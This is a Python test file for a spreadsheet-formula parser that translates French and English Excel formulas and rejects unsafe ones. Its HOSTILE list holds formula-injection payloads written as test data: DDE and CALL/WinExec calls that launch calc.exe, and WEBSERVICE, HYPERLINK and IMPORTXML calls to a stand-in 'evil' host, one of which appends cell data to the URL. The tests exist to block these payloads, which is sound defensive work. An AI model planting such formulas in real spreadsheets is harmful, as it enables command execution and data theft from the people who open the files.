"""Formulas: what is understood, what is refused, and what is written is what was understood."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.documents.xlsx.formulas import formula
from bot.documents.xlsx.syntax import NotAFormula, parse, written

SHEETS = {"ventes": ("Ventes 2026", 4), "l'année": ("L'année", 0)}


@pytest.mark.parametrize(
    ("source", "file"),
    [
        ("=SUM(C2:C9)", "SUM(C5:C12)"),
        ("B2*18%", "B5*18%"),
        ("=somme(B2:B4;7)", "SUM(B5:B7,7)"),
        ('=SI(B2>0;"oui";"non ""net""")', 'IF(B5>0,"oui","non ""net""")'),
        ("=-B2^2", "(-B5)^2"),
        ("=2^3^2", "2^3^2"),
        ("=1-(2-3)-4", "1-(2-3)-4"),
        ("=(1+2)*3", "(1+2)*3"),
        ("=$B$2+B$2+$B2", "$B$5+B$5+$B5"),
        ('=Ventes!B2 & "x"', "'Ventes 2026'!B6&\"x\""),
        ("='L''année'!A1", "'L''année'!A1"),
        ("=capital*taux/12", "capital*taux/12"),
        ("=VPM(taux/12;48;-capital)", "PMT(taux/12,48,-capital)"),
        ("=A2×B2÷2−1", "A5*B5/2-1"),
        ("=IF(VRAI,1.5e3,0)", "IF(TRUE,1500,0)"),
        ("=SOMME(0,5;B2)", "SUM(0.5,B5)"),  # it was SUM(0,5,B5), five too many
        ("=ARRONDI.SUP(B2*1,18;0)", "ROUNDUP(B5*1.18,0)"),
        ("=SOMME(B2:B4)*0,18", "SUM(B5:B7)*0.18"),
        ("=(B2+0,5)*2", "(B5+0.5)*2"),
        ("=ARRONDI((B2+0,5)*2;1)", "ROUND((B5+0.5)*2,1)"),
        ('=SI(B2>2,5;"1,5; oui";0,5)', 'IF(B5>2.5,"1,5; oui",0.5)'),
        ('=IF(B2>2,5,"a;b")', 'IF(B5>2,5,"a;b")'),
        ("=MAX(1,5)", "MAX(1,5)"),
        ("=MAX(1,5)+0,5", "MAX(1,5)+0.5"),
    ],
)
def test_what_is_understood_is_written_in_english_with_real_rows(source: str, file: str) -> None:
    assert written(formula(source, SHEETS, 3)) == file
    assert written(parse(file)) == written(parse(written(parse(file))))


def test_a_formula_is_filled_down_as_excel_does() -> None:
    assert written(formula("=A2+A$2+SUM($B$2:B2)", {}, 0, down=3)) == "A5+A$2+SUM($B$2:B5)"


HOSTILE = [
    '=HYPERLINK("http://evil","clic")',
    '=WEBSERVICE("http://evil/?"&A1)',
    "=cmd|'/c calc'!A0",
    '=DDE("cmd","/c calc","x")',
    "=MSEXCEL|'\\..\\..\\calc.exe'!A1",
    "=[evil.xlsx]Sheet1!A1",
    "='http://evil/[x.xlsx]S'!A1",
    "='\\\\evil\\share\\[x.xlsx]S'!A1",
    '=INDIRECT("A1")',
    '=IMPORTXML("http://evil","//a")',
    '=IMAGE("http://evil/x.png")',
    '=CALL("Kernel32","WinExec","JCJ","calc",0)',
    '=REGISTER.ID("a","b")',
    '=EXEC("calc")',
    '=RTD("x",,"y")',
    '=SUM(HYPERLINK("http://evil"))',
    '=FILTERXML("a","b")',
    "=OFFSET(A1,1,1)",
    '=_xlfn.WEBSERVICE("x")',
    "=LET(x,1,x)",
    "=SUM(A:A)",
    "=B2+1,250",
    "=ABS(1,5)",
    "={1,2}",
    "=A1:B2:C3",
    "=Autre!A1",
    "=XFE1",
    "=A0",
    "=A99999999",
    "=SUM(",
    "=1+",
    "=)",
    '="ouvert',
    "=ROUND(1)",
    "=" + "(" * 200 + "1" + ")" * 200,
    "",
    "=\x00",
    "=SUM(A1)SUM(A2)",
]


@pytest.mark.parametrize("source", HOSTILE)
def test_what_reaches_out_or_is_not_understood_is_no_formula(source: str) -> None:
    with pytest.raises(NotAFormula):
        formula(source, SHEETS, 3)


@given(st.text(max_size=60))
def test_any_text_is_a_formula_or_refused(source: str) -> None:
    try:
        told = written(formula(source, {}, 0))
    except NotAFormula:
        return
    assert written(parse(told)) == told
